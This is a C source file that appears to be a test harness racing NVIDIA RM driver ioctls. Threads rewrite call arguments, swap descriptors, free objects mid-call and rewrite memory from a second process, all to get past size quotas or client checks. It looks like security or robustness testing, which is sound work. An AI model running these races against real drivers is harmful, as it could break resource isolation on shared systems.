// SPDX-License-Identifier: GPL-2.0
/*
 * race.c - calls whose arguments another thread rewrites while they are checked, made and answered. Each mode names the
 * bytes that flicker between something harmless and something that is not; whoever judges sees what came of it.
 */
#define _GNU_SOURCE
#include <pthread.h>
#include <sched.h>

#include "rm.h"

static struct rm rm, other;

/* Everything that a call consists of, side by side, where all can write. */
static struct board {
	NVOS64_PARAMETERS call;
	NVOS32_PARAMETERS heap;
	NVOS54_PARAMETERS control;
	nv_ioctl_xfer_t outer;
	NV_MEMORY_ALLOCATION_PARAMS small, large;
	NV_CHANNEL_GROUP_ALLOCATION_PARAMETERS tsg;
} *board;

struct flicker {
	volatile void *at;
	unsigned int bytes;
	uint64_t harmless, harmful;
};

static struct flicker flickers[4];
static int nr_flickers;
static volatile bool stop;

static void flicker(volatile void *at, unsigned int bytes, uint64_t harmless, uint64_t harmful)
{
	flickers[nr_flickers++] = (struct flicker){ at, bytes, harmless, harmful };
}

static void put(const struct flicker *flicker, uint64_t value)
{
	if (flicker->bytes == 8)
		*(volatile uint64_t *)flicker->at = value;
	else
		*(volatile uint32_t *)flicker->at = (uint32_t)value;
}

/* Harmless for a while and harmful for a while, at a pace that changes, so that some switch falls into each check. */
static void *rewrite(void *nothing)
{
	uint32_t random = (uint32_t)getpid();

	while (!stop) {
		for (int side = 0; side < 2; side++) {
			for (int i = 0; i < nr_flickers; i++)
				put(&flickers[i], side ? flickers[i].harmful : flickers[i].harmless);
			random = random * 1664525 + 1013904223;
			for (volatile uint32_t spin = random >> 18; spin; spin--)
				;
		}
	}
	return nothing;
}

/* A descriptor that is the driver's at one moment and nothing at the next. */
static int seat, null_fd;

static void *swap_files(void *nothing)
{
	while (!stop) {
		dup2(null_fd, seat);
		usleep(20);
		dup2(rm.ctl, seat);
		usleep(20);
	}
	return nothing;
}

static void *nothing_meanwhile(void *nothing)
{
	return nothing;
}

static void *free_behind(void *nothing)
{
	while (!stop)
		for (uint32_t back = 0; back < 4; back++)
			rm_free(&rm, rm.last - back);
	return nothing;
}

/*
 * A root client is asked for on a file that has nothing, and while that is looked at, another file comes to its place
 * and another call: memory on a card. A thread with descriptors of its own needs no exchange.
 */
static NVOS64_PARAMETERS *volatile evil;
static volatile double evil_at;
static bool own_table;

static void *exchange(void *nothing)
{
	while (!stop) {
		NVOS64_PARAMETERS *call = evil;

		if (!call || now_s() < evil_at)
			continue;
		evil = NULL;
		if (!own_table)
			dup2(rm.ctl, seat);
		board->call = *call;
	}
	return nothing;
}

static long by_root(void)
{
	static NVOS64_PARAMETERS call;
	static uint32_t random = 1;
	static bool own;
	long result;

	if (own_table && !own) {
		own = true;
		seat = 200;
		dup2(null_fd, seat);
		if (unshare(CLONE_FILES))
			exit(5);
		dup2(rm.ctl, seat);
	}
	if (!own_table)
		dup2(null_fd, seat);
	random = random * 1664525 + 1013904223;
	call = (NVOS64_PARAMETERS){ .hRoot = rm.client, .hObjectParent = rm.device, .hObjectNew = ++rm.last,
				    .hClass = NV01_MEMORY_LOCAL_USER, .pAllocParms = (uintptr_t)&board->small };
	board->call = (NVOS64_PARAMETERS){ .hClass = NV01_ROOT_CLIENT, .status = ~0u };
	evil_at = now_s() + 2e-5 + (random >> 12) * 1e-9;
	evil = &call;
	result = rm_plain(seat, NV_ESC_RM_ALLOC, &board->call, sizeof(board->call));
	evil = NULL;
	return result;
}

/*
 * The same from another process, which nobody keeps still: a file that has a client and no device is asked for root
 * clients, and gets a device and then memory instead. What it has made is told by RM alone.
 */
static struct rm bare;
static volatile struct { NVOS64_PARAMETERS call; double at; uint32_t round; } *elsewhere;

static void rewrite_elsewhere(void)
{
	for (uint32_t round = 0;;) {
		if (elsewhere->round == round || now_s() < elsewhere->at)
			continue;
		round = elsewhere->round;
		board->call = elsewhere->call;
	}
}

static long by_bare_root(void)
{
	static uint32_t random = 1, device;
	static NV0080_ALLOC_PARAMETERS *params;
	NV0000_CTRL_CLIENT_GET_HANDLE_INFO_PARAMS info = { .index = 1 };
	uint32_t handle = ++bare.last;
	long result;

	params = params ?: rm_low(sizeof(*params));
	params->hClientShare = bare.client;
	random = random * 1664525 + 1013904223;
	elsewhere->call = (NVOS64_PARAMETERS){ .hRoot = bare.client, .hObjectParent = device ?: bare.client,
					       .hObjectNew = handle,
					       .hClass = device ? NV01_MEMORY_LOCAL_USER : NV01_DEVICE_0,
					       .pAllocParms = device ? (uintptr_t)&board->small : (uintptr_t)params };
	board->call = (NVOS64_PARAMETERS){ .hClass = NV01_ROOT_CLIENT, .status = ~0u };
	elsewhere->at = now_s() + 2e-5 + (random >> 9) * 1e-9;
	elsewhere->round++;
	result = rm_plain(bare.ctl, NV_ESC_RM_ALLOC, &board->call, sizeof(board->call));
	info.hObject = handle;
	if (!device && rm_control(&bare, rm_plain, bare.client, bare.client, NV0000_CLIENT_GET_HANDLE_INFO, &info,
				  sizeof(info)) == NV_OK)
		device = handle;
	return result;
}

static void prepare(void)
{
	board->call = (NVOS64_PARAMETERS){ .hRoot = rm.client, .hObjectParent = rm.device, .hObjectNew = ++rm.last,
					   .hClass = NV01_MEMORY_LOCAL_USER, .pAllocParms = (uintptr_t)&board->small,
					   .status = ~0u };
}

static long by_alloc(void)
{
	prepare();
	return rm_plain(seat, NV_ESC_RM_ALLOC, &board->call, sizeof(board->call));
}

static long by_wrapped(void)
{
	prepare();
	board->outer = (nv_ioctl_xfer_t){ NV_ESC_RM_ALLOC, sizeof(board->call), (uintptr_t)&board->call };
	return rm_plain(rm.ctl, NV_ESC_IOCTL_XFER_CMD, &board->outer, sizeof(board->outer));
}

static long by_heap(void)
{
	board->heap = (NVOS32_PARAMETERS){ .hRoot = rm.client, .hObjectParent = rm.device, .function = 2,
					   .owner = rm.client, .hMemory = ++rm.last, .flags = RM_FLAGS, .attr = RM_ATTR,
					   .size = 64 * KIB, .status = ~0u };
	return rm_plain(rm.ctl, NV_ESC_RM_VID_HEAP_CONTROL, &board->heap, sizeof(board->heap));
}

/* Address space, whose flags say whether its page tables come with it. */
static long by_space(void)
{
	prepare();
	board->call.hClass = NV50_MEMORY_VIRTUAL;
	return rm_plain(rm.ctl, NV_ESC_RM_ALLOC, &board->call, sizeof(board->call));
}

static long by_tsg(void)
{
	prepare();
	board->call.hClass = KEPLER_CHANNEL_GROUP_A;
	board->call.pAllocParms = (uintptr_t)&board->tsg;
	return rm_plain(rm.ctl, NV_ESC_RM_ALLOC, &board->call, sizeof(board->call));
}

static const char *mode;
static double until;
static long (*make)(void) = by_alloc;
static pid_t helper;
static unsigned long long calls, made;

static void *call_on(void *nothing)
{
	volatile uint32_t *status = make == by_heap ? &board->heap.status : &board->call.status;

	while (now_s() < until) {
		made += make() == 0 && *status == NV_OK;
		calls++;
		if (!strcmp(mode, "close") && calls % 8 == 0) { /* all goes with its file, while it is still being asked for */
			int old = rm.ctl, card = rm.card;

			rm_open(&rm);
			seat = rm.ctl;
			close(old);
			close(card);
		}
	}
	return nothing;
}

int main(int argc, char **argv)
{
	void *(*meanwhile)(void *) = rewrite;
	unsigned long long granted, filled = 0, refused = 0;
	pthread_t threads[3];

	mode = start(argc, argv);
	until = now_s() + (argc > 4 ? atof(argv[4]) : 2);
	rm_open(&rm);
	granted = rm_granted(&rm);
	seat = rm.ctl;
	board = mmap(NULL, sizeof(*board) + 4096, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS | MAP_32BIT, -1, 0);
	elsewhere = (void *)((char *)board + 2048);
	board->small = rm_memory_params(&rm, 64 * KIB);
	board->large = rm_memory_params(&rm, quota);
	if (!strcmp(mode, "size")) {
		flicker(&board->small.size, 8, 64 * KIB, quota);
	} else if (!strcmp(mode, "class")) {
		board->small.size = quota;
		flicker(&board->call.hClass, 4, 0x3e, NV01_MEMORY_LOCAL_USER);
	} else if (!strcmp(mode, "place")) { /* system memory or the card's, by the parameters */
		board->small.size = quota;
		flicker(&board->small.attr, 4, 0x3a000000, 0x18000000);
	} else if (!strcmp(mode, "handle")) {
		board->small.size = quota / 4;
		flicker(&board->call.hObjectNew, 4, 0x5e000001, 0);
	} else if (!strcmp(mode, "client")) {
		rm_open(&other);
		board->small.size = quota / 4;
		flicker(&board->call.hRoot, 4, other.client, rm.client);
	} else if (!strcmp(mode, "parent")) {
		board->small.size = quota / 4;
		flicker(&board->call.hObjectParent, 4, rm.client, rm.device);
	} else if (!strcmp(mode, "pointer")) {
		flicker(&board->call.pAllocParms, 8, (uintptr_t)&board->small, (uintptr_t)&board->large);
	} else if (!strcmp(mode, "wrapper")) {
		board->small.size = quota;
		make = by_wrapped;
		flicker(&board->outer.cmd, 4, 210, NV_ESC_RM_ALLOC);
	} else if (!strcmp(mode, "wrapper-size")) {
		board->small.size = quota;
		make = by_wrapped;
		flicker(&board->outer.size, 4, 20, sizeof(board->call));
	} else if (!strcmp(mode, "heap")) {
		make = by_heap;
		flicker(&board->heap.size, 8, 64 * KIB, quota);
	} else if (!strcmp(mode, "heap-function")) {
		make = by_heap;
		flicker(&board->heap.function, 4, 5, 2);
		flicker(&board->heap.size, 8, quota, quota);
	} else if (!strcmp(mode, "heap-place")) {
		make = by_heap;
		flicker(&board->heap.attr, 4, 1u << 25, 0);
		flicker(&board->heap.size, 8, quota, quota);
	} else if (!strcmp(mode, "answer")) { /* a refusal where RM wrote its handle, OK where it refused */
		board->small.size = quota / 4;
		flicker(&board->call.status, 4, 0x51, NV_OK);
		flicker(&board->call.hObjectNew, 4, 0x5e000001, 0x5e000002);
	} else if (!strcmp(mode, "files")) {
		board->small.size = quota / 4;
		seat = dup(rm.ctl);
		null_fd = open("/dev/null", O_RDWR);
		meanwhile = swap_files;
	} else if (!strcmp(mode, "exchange") || !strcmp(mode, "own-table")) {
		own_table = !strcmp(mode, "own-table");
		board->small.size = 32 * MIB;
		seat = 200;
		null_fd = open("/dev/nvidiactl", O_RDWR);
		meanwhile = exchange;
		make = by_root;
	} else if (!strcmp(mode, "elsewhere")) {
		board->small.size = 32 * MIB;
		make = by_bare_root;
		bare.last = 0x5b000000;
		bare.ctl = open("/dev/nvidiactl", O_RDWR);
		if (rm_alloc(&bare, rm_plain, 0, NV01_ROOT_CLIENT, NULL, &bare.client) != NV_OK)
			report("cannot start: no second client"), exit(4);
		meanwhile = nothing_meanwhile;
		helper = fork();
		if (!helper)
			rewrite_elsewhere();
	} else if (!strcmp(mode, "space")) {
		board->small.attr = 1 << 23; /* pages of 4 KiB */
		board->small.size = 1ull << 30;
		make = by_space;
		flicker(&board->small.flags, 4, 0x88401, 0x88001);
	} else if (!strcmp(mode, "engine")) {
		make = by_tsg;
		flicker(&board->tsg.engineType, 4, 9, 1);
	} else if (!strcmp(mode, "free")) {
		board->small.size = quota / 4;
		meanwhile = free_behind;
	} else if (!strcmp(mode, "close")) {
		board->small.size = quota / 4;
	} else {
		return 2;
	}
	for (int i = 0; i < 2; i++)
		pthread_create(&threads[i], NULL, meanwhile, NULL);
	if (own_table) { /* of a thread that is not the first, by which processes are known */
		pthread_create(&threads[2], NULL, call_on, NULL);
		pthread_join(threads[2], NULL);
	} else {
		call_on(NULL);
	}
	stop = true;
	if (helper)
		kill(helper, SIGKILL);
	for (int i = 0; i < 2; i++)
		pthread_join(threads[i], NULL);
	for (uint64_t size = quota / 2; size >= 4 * KIB && filled < 3 * quota;) { /* to the limit, plainly */
		uint32_t handle = ++rm.last;

		if (rm_memory(&rm, rm_plain, size, &handle) == NV_OK)
			filled += size;
		else
			refused++, size /= 2;
	}
	report("granted %llu, %llu calls, %llu answered OK, then filled %llu, refused %llu times", granted, calls, made,
	       filled, refused);
	hold();
}
